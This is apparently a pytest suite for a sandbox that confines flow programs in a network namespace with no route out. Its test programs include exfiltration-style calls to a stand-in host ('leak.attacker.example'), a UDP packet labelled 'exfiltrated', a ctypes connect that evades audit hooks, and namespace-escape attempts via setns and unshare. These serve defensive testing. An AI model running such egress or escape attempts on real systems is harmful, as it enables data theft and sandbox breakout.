"""The network boundary: flow programs in a network namespace with no route out. What the
in-process guard cannot see (a child's `curl`, a C call to connect, another language)
fails there and is recorded as a blocked decision from the packets it sent; calls to the
mocked services succeed and are judged. Needs root (the `network_boundary` fixture skips,
saying why, where a namespace cannot be made)."""

from __future__ import annotations

import shutil
import socket
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from workspaces import build, policy, service

from harness.boundary import BoundarySandbox
from harness.decisions import BLOCKED
from harness.errors import SandboxError

pytestmark = pytest.mark.usefixtures("network_boundary")

FAR = "203.0.113.9"  # TEST-NET-3: an address no test may reach
CURL = shutil.which("curl")
NEEDS_CURL = pytest.mark.skipif(
    CURL is None, reason="no curl on PATH (apt-get install curl; .ci/run installs it)"
)
# A call to the mocked service as flow code makes one: the token and URL from the environment.
CALL_MOCK = """
import os, sys, urllib.error, urllib.request
request = urllib.request.Request(
    os.environ["SVC_BASE_URL"] + "/items",
    method=sys.argv[1] if len(sys.argv) > 1 else "GET",
    headers={"Authorization": "Bearer " + os.environ["HARNESS_TOKEN"]},
)
try:
    with urllib.request.urlopen(request, timeout=5) as answer:
        print(answer.status, answer.read().decode())
except urllib.error.HTTPError as refused:
    print(refused.code)
"""


def mock_call(method: str = "GET") -> list[str]:
    return [sys.executable, "-c", CALL_MOCK, method]


@pytest.fixture
def bounded() -> Iterator[BoundarySandbox]:
    workspace = build([service()], [policy(["svc.read"], [("GET", "/items")])])
    with BoundarySandbox(workspace, name="flow") as sandbox:
        yield sandbox


def python(code: str) -> list[str]:
    return [sys.executable, "-c", textwrap.dedent(code)]


# (the program, the rule that blocks it, the host its decision names, the path)
PROGRAMS: dict[str, tuple[list[str], str, str, str]] = {
    "curl to a real host": (
        ["curl", "-sS", "-m", "5", "https://api.real-vendor.example/v1/me"],
        "egress.dns",
        "api.real-vendor.example",
        "",
    ),
    "curl to an address": (
        ["curl", "-sS", "-m", "5", f"http://{FAR}:8080/"],
        "egress.tcp",
        FAR,
        ":8080",
    ),
    "python urllib": (
        python("""
            import urllib.request
            urllib.request.urlopen("https://leak.attacker.example/", timeout=5)
        """),
        "egress.dns",
        "leak.attacker.example",
        "",
    ),
    "a C call to connect (ctypes), past any audit hook": (
        python(f"""
            import ctypes, socket, struct
            libc = ctypes.CDLL(None, use_errno=True)
            fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
            address = struct.pack("HH4s8x", socket.AF_INET, socket.htons(443),
                                  socket.inet_aton("{FAR}"))
            assert libc.connect(fd, address, len(address)) != 0
            raise SystemExit(ctypes.get_errno())
        """),
        "egress.tcp",
        FAR,
        ":443",
    ),
    "an IPv6 connection": (
        python("""
            import socket
            socket.create_connection(("2001:db8::9", 443), timeout=5)
        """),
        "egress.tcp",
        "[2001:db8::9]",
        ":443",
    ),
    "a UDP datagram": (
        python(f"""
            import socket
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
                udp.sendto(b"exfiltrated", ("{FAR}", 514))
            raise SystemExit(1)
        """),
        "egress.udp",
        FAR,
        ":514",
    ),
    "a lookup by a grandchild process": (
        ["sh", "-c", "getent hosts api.real-vendor.example; exit 2"],
        "egress.dns",
        "api.real-vendor.example",
        "",
    ),
}


@pytest.mark.parametrize(
    "name",
    [
        pytest.param(name, marks=NEEDS_CURL) if argv[0] == "curl" else name
        for name, (argv, *_) in PROGRAMS.items()
    ],
)
def test_a_way_out_fails_is_recorded_and_the_mocked_call_succeeds(
    bounded: BoundarySandbox, name: str
) -> None:
    argv, rule, host, path = PROGRAMS[name]
    if host.startswith("[") and bounded.namespace is not None and not bounded.namespace.ipv6:
        pytest.skip("IPv6 is disabled on this machine: an IPv6 connection sends no packet")
    bot = bounded.binding("bot@prod")
    mocked = bounded.run(mock_call(), binding=bot)
    assert (mocked.returncode, mocked.stdout) == (0, "200 {}\n"), mocked.stderr
    left = bounded.run(argv, binding=bot, timeout=30)
    assert left.returncode != 0, left.stdout
    first = bounded.decisions[0]
    assert (first.outcome, first.rule, first.method, first.operation) == (
        "allowed",
        "scope",
        "GET",
        "items.list",
    )
    blocked = [(d.rule, d.host, d.path) for d in bounded.decisions if d.outcome == BLOCKED]
    assert blocked == [(rule, host, path)]
    with pytest.raises(AssertionError) as failed:
        bounded.assert_least_privilege()
    assert "  egress            flow step 2 (call 2)" in str(failed.value).splitlines()


ESCAPES = """
import ctypes, os, socket
NEWNET = 0x40000000
libc = ctypes.CDLL(None, use_errno=True)
with open("/proc/self/status") as status:
    print(*sorted(l.split()[1] for l in status if l.startswith(("CapEff", "CapPrm", "CapBnd"))))

def enter():
    own = os.open(f"/proc/{os.getppid()}/ns/net", os.O_RDONLY)
    return "entered" if libc.setns(own, NEWNET) == 0 else "refused"

def make():
    return "made" if libc.unshare(NEWNET) == 0 else "refused"

def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    return "opened"

for name, attempt in [
    ("enter the harness's own network namespace", enter),
    ("make a new one", make),
    ("open a raw socket", raw),
]:
    try:
        result = attempt()
    except PermissionError:
        result = "refused"
    print(name, "->", result)
"""


def test_a_program_holds_no_capability_that_would_let_it_leave(
    bounded: BoundarySandbox,
) -> None:
    finished = bounded.run(python(ESCAPES))
    assert finished.stdout.splitlines() == [
        "0000000000000000 0000000000000000 0000000000000000",
        "enter the harness's own network namespace -> refused",
        "make a new one -> refused",
        "open a raw socket -> refused",
    ], finished.stderr
    assert bounded.decisions == []


@NEEDS_CURL  # a client `nobody` may run (this interpreter may sit in root's home)
def test_a_program_runs_as_the_user_named_and_opens_only_what_it_may(
    bounded: BoundarySandbox, tmp_path: Path
) -> None:
    secret = tmp_path / "root-only"
    secret.write_text("not for flow code", "utf-8")
    secret.chmod(0o600)
    tmp_path.chmod(0o755)
    bot = bounded.binding("bot@prod")
    call = 'curl -sS -m 5 -H "Authorization: Bearer $HARNESS_TOKEN" "$SVC_BASE_URL/items"'
    program = f"id -u; cat {secret} 2>/dev/null || echo refused; {call}"
    finished = bounded.run(["sh", "-c", program], binding=bot, user="nobody")
    assert finished.stdout.splitlines() == ["65534", "refused", "{}"], finished.stderr
    assert [d.outcome for d in bounded.decisions] == ["allowed"]


def test_an_unknown_user_is_refused_before_anything_runs(bounded: BoundarySandbox) -> None:
    with pytest.raises(SandboxError, match=r"no user 'no-such-user' on this machine"):
        bounded.run(["true"], user="no-such-user")


def test_a_clean_program_holds_least_privilege(bounded: BoundarySandbox) -> None:
    bot = bounded.binding("bot@prod")
    finished = bounded.run(mock_call(), binding=bot)
    assert finished.returncode == 0, finished.stderr
    assert [d.outcome for d in bounded.decisions] == ["allowed"]
    bounded.assert_least_privilege()


def test_a_denied_mocked_call_is_judged_as_any_call(bounded: BoundarySandbox) -> None:
    bot = bounded.binding("bot@prod")
    finished = bounded.run(mock_call("POST"), binding=bot)
    assert finished.stdout == "403\n"
    decision = bounded.assert_denied("POST", operation="items.create")
    assert (decision.outcome, decision.rule) == ("denied", "scope")


def test_the_hosts_own_loopback_is_out_of_reach(bounded: BoundarySandbox) -> None:
    with socket.create_server(("127.0.0.1", 0)) as outside:
        port = outside.getsockname()[1]
        finished = bounded.run(
            python(f"""
                import socket
                socket.create_connection(("127.0.0.1", {port}), timeout=5)
            """)
        )
    assert "ConnectionRefusedError" in finished.stderr
    assert bounded.decisions == []  # loopback is inside the boundary: nothing to record


def test_every_packet_before_run_returns_is_judged(bounded: BoundarySandbox) -> None:
    hosts = [f"198.51.100.{n}" for n in range(1, 101)]
    finished = bounded.run(
        python(f"""
            import socket
            for host in {hosts!r}:
                try:
                    socket.create_connection((host, 443), timeout=5).close()
                except ConnectionRefusedError:
                    pass
        """)
    )
    assert finished.returncode == 0, finished.stderr
    assert [d.host for d in bounded.decisions] == hosts


def test_calls_to_the_mocks_never_reach_the_observer(bounded: BoundarySandbox) -> None:
    bot = bounded.binding("bot@prod")
    for _ in range(20):
        assert bounded.run(mock_call(), binding=bot).returncode == 0
    assert bounded.observer is not None
    assert bounded.observer.packets_read == 0  # the kernel's filter keeps loopback TCP out
    assert [d.outcome for d in bounded.decisions] == ["allowed"] * 20


def test_a_flood_to_one_destination_is_one_attempt(bounded: BoundarySandbox) -> None:
    finished = bounded.run(
        python("""
            import socket
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
                for _ in range(5_000):  # well within the receive buffer, however slow the reader
                    udp.sendto(b"x" * 512, ("198.51.100.7", 9))
        """),
        timeout=60,
    )
    assert finished.returncode == 0, finished.stderr
    assert [(d.rule, d.host, d.path) for d in bounded.decisions] == [
        ("egress.udp", "198.51.100.7", ":9")
    ]


def test_a_lookup_is_one_decision_however_many_queries_it_sends(bounded: BoundarySandbox) -> None:
    for _ in range(2):
        bounded.run(["getent", "ahosts", "api.real-vendor.example"])
    assert [(d.method, d.host) for d in bounded.decisions] == [
        ("RESOLVE", "api.real-vendor.example"),  # one per run
        ("RESOLVE", "api.real-vendor.example"),
    ]


def test_a_program_that_outlives_its_timeout_is_stopped_with_its_children(
    bounded: BoundarySandbox, tmp_path: Path
) -> None:
    marker = tmp_path / "survived"
    started = time.monotonic()
    with pytest.raises(subprocess.TimeoutExpired):
        bounded.run(["sh", "-c", f"(sleep 2; touch {marker}) & sleep 30"], timeout=0.5)
    assert time.monotonic() - started < 10
    time.sleep(2.5)
    assert not marker.exists()


def test_proxy_settings_and_the_harness_keys_do_not_reach_the_program(
    bounded: BoundarySandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HTTPS_PROXY", "http://proxy.example:3128")
    monkeypatch.setenv("http_proxy", "http://proxy.example:3128")
    monkeypatch.setenv("CUSTOM_SETTING", "kept")
    monkeypatch.setenv("CONNECTOR_HARNESS_LOG_KEY", "the-log-key")
    monkeypatch.setenv("CONNECTOR_HARNESS_SIGNING_KEY", "00" * 32)
    variables = bounded.environment(bounded.binding("bot@prod"))
    assert "CONNECTOR_HARNESS_LOG_KEY" not in variables
    assert "CONNECTOR_HARNESS_SIGNING_KEY" not in variables
    assert "HTTPS_PROXY" not in variables
    assert "http_proxy" not in variables
    assert variables["CUSTOM_SETTING"] == "kept"
    assert variables["SVC_BASE_URL"] == bounded.base_urls["svc"]
    assert variables["SVC_BASE_URL"].startswith("http://127.0.0.1:")


def test_run_outside_the_block_is_refused() -> None:
    workspace = build([service()], [policy(["svc.read"], [("GET", "/items")])])
    sandbox = BoundarySandbox(workspace)
    with pytest.raises(Exception, match=r"only inside `with BoundarySandbox"):
        sandbox.run(["true"])
